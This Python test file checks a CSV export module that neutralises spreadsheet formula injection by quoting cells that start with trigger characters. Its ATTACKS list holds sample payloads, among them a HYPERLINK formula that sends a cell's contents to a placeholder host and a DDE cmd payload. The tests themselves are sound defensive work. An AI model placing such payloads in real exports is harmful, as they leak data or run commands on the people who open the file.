"""The rule that keeps exported text from running as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st

from rbb.model.spreadsheet import (
    FORMULA_TRIGGERS,
    csv_cell,
    csv_line,
    neutral_text,
    restored_text,
)

ATTACKS = ["=HYPERLINK(\"http://x.invalid/?\"&A1,\"Open\")", "+2+3", "-2+3", "@SUM(A1:A2)",
           "\t=1+1", "\r=1+1", "=cmd|' /C notepad'!Z9"]


def test_text_that_starts_with_a_trigger_gets_one_quote() -> None:
    for attack in ATTACKS:
        assert neutral_text(attack) == "'" + attack


def test_ordinary_text_is_unchanged() -> None:
    for text in ("Status-of-mission agreement", "2025/26", "", "a=b", "Rule of law"):
        assert neutral_text(text) == text
        assert restored_text(text) == text


def test_numbers_are_never_prefixed() -> None:
    # -6.8: the variance of medical in the budget seed (line 527).
    assert csv_cell(Decimal("-6.8")) == "-6.8"
    assert csv_cell(-3) == "-3"
    assert csv_cell(None) == ""
    # The same characters as text are a formula trigger, so they are prefixed.
    assert csv_cell("-6.8") == "'-6.8"


def test_a_quote_before_a_trigger_gets_one_more_so_reading_back_is_exact() -> None:
    assert neutral_text("'=1") == "''=1"
    assert restored_text("''=1") == "'=1"
    # A quote rbb did not add (nothing a spreadsheet would run after it) stays.
    assert restored_text("'quoted'") == "'quoted'"


@given(st.text())
def test_no_neutral_text_starts_with_a_trigger_and_every_one_reads_back(text: str) -> None:
    neutral = neutral_text(text)
    assert not neutral.startswith(FORMULA_TRIGGERS)
    assert restored_text(neutral) == text


def test_a_carriage_return_inside_a_field_cannot_start_a_new_row() -> None:
    # Python's csv.writer leaves "\r" unquoted with a "\n" terminator; a spreadsheet
    # would then read "=1+1" as the first cell of a row of its own.
    line = csv_line(["note\r=1+1", Decimal("2.5")])
    assert line == '"note\r=1+1",2.5\n'
    assert list(csv.reader(io.StringIO(line, newline=""))) == [["note\r=1+1", "2.5"]]
